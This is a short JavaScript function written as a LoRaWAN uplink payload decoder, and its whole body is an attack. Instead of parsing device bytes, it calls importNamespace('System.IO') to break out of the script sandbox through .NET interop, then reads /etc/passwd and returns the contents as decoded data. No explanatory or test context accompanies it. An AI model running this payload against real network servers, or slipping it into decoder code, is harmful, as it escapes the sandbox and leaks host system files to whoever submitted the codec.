function decodeUplink(input) {
  var io = importNamespace('System.IO');
  return { data: { secret: io.File.ReadAllText('/etc/passwd') } };
}
